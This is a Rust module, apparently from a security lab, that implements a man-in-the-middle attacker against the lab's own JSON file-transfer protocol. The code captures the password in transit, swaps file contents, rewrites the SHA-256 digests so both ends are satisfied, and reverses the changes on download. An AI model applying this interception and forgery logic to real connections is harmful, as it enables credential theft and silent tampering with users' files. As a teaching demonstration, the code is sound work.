//! An attacker who reads the protocol: it notes the password, and changes a file and every digest of it, so
//! that both ends are content.

use std::io::{self, BufRead, Read, Write};

use serde_json::Value;

use crate::protocol::{FrameError, Sha256, read_frame};

/// What the attacker puts in the place of what; of the same length, as a careful forger does.
#[derive(Clone, Copy, Debug)]
pub(super) struct Forgery {
    pub(super) from: &'static str,
    pub(super) to: &'static str,
}

/// What the attacker got.
#[derive(Debug, Default)]
pub(super) struct Loot {
    /// The request that carried the password, as it travelled.
    pub(super) login: Option<String>,
    /// The password.
    pub(super) password: Option<String>,
    /// The file as the client sent it.
    pub(super) before: Vec<u8>,
    /// The file as the server got it.
    pub(super) after: Vec<u8>,
    /// The digests of both.
    pub(super) digests: Option<(String, String)>,
    /// Files changed back on their way to the client.
    pub(super) restored: usize,
}

/// Stands between `client` and `server` until one of them hangs up. Strictly request then reply, so one
/// thread is enough.
pub(super) fn stand_between<C: BufRead + Write, S: BufRead + Write>(
    client: &mut C,
    server: &mut S,
    forgery: Forgery,
    loot: &mut Loot,
) -> io::Result<()> {
    let mut buffer = Vec::new();
    while let Some(request) = read(client, &mut buffer)? {
        let json: Value = serde_json::from_slice(&request).unwrap_or_default();
        let word = |key: &str| json[key].as_str().map(str::to_owned);
        if let Some(password) = word("password") {
            loot.password = Some(password);
            loot.login = Some(String::from_utf8_lossy(&request).into_owned());
        }
        send(server, &request)?;
        let Some(reply) = read(server, &mut buffer)? else {
            return Ok(());
        };
        match word("op").as_deref() {
            Some("put") => {
                send(client, &reply)?;
                put(client, server, &json, forgery, loot)?;
            }
            Some("get") => get(client, server, &reply, forgery, loot)?,
            _ => send(client, &restore(&reply, loot))?,
        }
    }
    Ok(())
}

fn put<C: BufRead + Write, S: BufRead + Write>(
    client: &mut C,
    server: &mut S,
    request: &Value,
    forgery: Forgery,
    loot: &mut Loot,
) -> io::Result<()> {
    loot.before = body(client, request["size"].as_u64())?;
    loot.after = swap(&loot.before, forgery.from, forgery.to);
    server.write_all(&loot.after)?;
    server.flush()?;
    let mut buffer = Vec::new();
    let Some(end) = read(client, &mut buffer)? else {
        return Ok(());
    };
    let honest = Sha256::of(&loot.before).to_string();
    let forged = Sha256::of(&loot.after).to_string();
    send(server, &swap(&end, &honest, &forged))?;
    loot.digests = Some((honest, forged));
    match read(server, &mut buffer)? {
        Some(reply) => send(client, &restore(&reply, loot)),
        None => Ok(()),
    }
}

fn get<C: Write, S: BufRead>(
    client: &mut C,
    server: &mut S,
    reply: &[u8],
    forgery: Forgery,
    loot: &mut Loot,
) -> io::Result<()> {
    let json: Value = serde_json::from_slice(reply).unwrap_or_default();
    send(client, &restore(reply, loot))?;
    let bytes = body(server, json["file"]["size"].as_u64())?;
    let honest = swap(&bytes, forgery.to, forgery.from);
    loot.restored += usize::from(honest != bytes);
    client.write_all(&honest)?;
    client.flush()
}

/// A reply with the digest the client expects.
fn restore(reply: &[u8], loot: &Loot) -> Vec<u8> {
    match &loot.digests {
        Some((honest, forged)) => swap(reply, forged, honest),
        None => reply.to_vec(),
    }
}

/// A file's bytes; none of a refusal, which announces no size. The lab's own are small.
fn body(from: &mut impl Read, size: Option<u64>) -> io::Result<Vec<u8>> {
    let mut bytes = Vec::new();
    let size = size.unwrap_or(0);
    let taken = from.take(size).read_to_end(&mut bytes)?;
    if u64::try_from(taken) == Ok(size) {
        return Ok(bytes);
    }
    Err(io::ErrorKind::UnexpectedEof.into())
}

/// `bytes` with every `from` replaced.
fn swap(bytes: &[u8], from: &str, to: &str) -> Vec<u8> {
    let (from, to) = (from.as_bytes(), to.as_bytes());
    let mut out = Vec::with_capacity(bytes.len());
    let mut at = 0;
    while at < bytes.len() {
        if bytes[at..].starts_with(from) {
            out.extend_from_slice(to);
            at += from.len();
        } else {
            out.push(bytes[at]);
            at += 1;
        }
    }
    out
}

pub(super) fn read(from: &mut impl BufRead, buffer: &mut Vec<u8>) -> io::Result<Option<Vec<u8>>> {
    match read_frame(from, buffer) {
        Ok(frame) => Ok(frame.map(<[u8]>::to_vec)),
        Err(FrameError::Io(error)) => Err(error),
        Err(error) => Err(io::Error::other(error)),
    }
}

pub(super) fn send(to: &mut impl Write, json: &[u8]) -> io::Result<()> {
    let length = u32::try_from(json.len()).map_err(io::Error::other)?;
    let mut frame = length.to_be_bytes().to_vec();
    frame.extend_from_slice(json);
    to.write_all(&frame)?;
    to.flush()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_occurrence_is_replaced_and_nothing_else() {
        assert_eq!(swap(b"ab-ab-a", "ab", "xy"), b"xy-xy-a");
        assert_eq!(swap(b"", "ab", "xy"), b"");
    }
}
